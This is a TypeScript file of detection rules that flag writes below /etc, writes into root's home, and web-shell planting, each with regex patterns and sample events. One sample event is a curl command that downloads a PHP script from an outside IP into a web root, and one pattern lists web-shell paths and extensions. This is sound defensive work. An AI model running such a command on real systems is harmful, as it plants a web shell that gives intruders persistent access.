import type { Indicator } from "../../indicator.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { changedByEvent, writesFile } from "./written-files.ts";

/** Folders in which whatever is written counts: /etc, root's home, what a web server serves. */

const shared = { platforms: ["Linux", "Containers"], families: ["syscall"] } as const;
const written = { "evt.arg.flags": "O_CREAT|O_WRONLY", ...onHost };

export const writesBelowEtc: Indicator = {
  ...shared,
  id: "writes-below-etc",
  behaviour: "changes a file below /etc",
  meaning: "Settings decide what runs and who may log in; what it means depends on the file.",
  technique: "T1543",
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://falco.org/docs/reference/rules/default-rules/",
  keywords: ["/etc/"],
  match: (facts) => changedByEvent(facts, /^\/etc\/./),
  examples: {
    found: [
      opened("/etc/nginx/conf.d/default.conf", "vim", written),
      opened("/etc/chrony/conf.d/x.conf", "python3", written),
    ],
    ignored: [opened("/etc/passwd", "cat"), opened("/var/etc/x", "sh", written)],
  },
};

export const writesStartFileOfRoot: Indicator = {
  ...shared,
  id: "writes-below-root",
  behaviour: "writes a file directly below / or into root's home",
  meaning: "Hardly any program has a reason to put files there; intruders store tools and start files in it.",
  technique: "T1546.004",
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://falco.org/docs/reference/rules/default-rules/",
  needs: "change",
  match: (facts) => changedByEvent(facts, /^\/(?:root\/.|[^/]{1,100}$)/),
  examples: {
    found: [opened("/root/x", "sh", written), opened("/payload", "sh", written)],
    ignored: [opened("/root/x", "cat"), opened("/tmp/x", "sh", written)],
  },
};

export const plantsWebShell: Indicator = {
  ...shared,
  id: "plants-web-shell",
  behaviour: "writes a script into a folder that a web server serves",
  meaning: "A script there runs for whoever asks for its address: a web shell.",
  technique: "T1505.003",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1505/003/",
  keywords: ["/www", "htdocs", "public_html", "wwwroot", "share/nginx", "webapps"],
  match: writesFile(
    /\/(?:var\/www|htdocs|public_html|wwwroot|usr\/share\/nginx|srv\/www|webapps)\/.{0,200}\.(?:php\d?|phtml|phar|jspx?|war|aspx?|cgi)$/,
  ),
  examples: {
    found: [
      opened("/var/www/html/uploads/x.php", "php-fpm", { ...written, ...inContainer }),
      ran("curl -o /var/www/html/a.php http://203.0.113.5/a"),
    ],
    ignored: [opened("/var/www/html/index.php", "php-fpm"), opened("/var/www/html/logo.png", "sh", written)],
  },
};
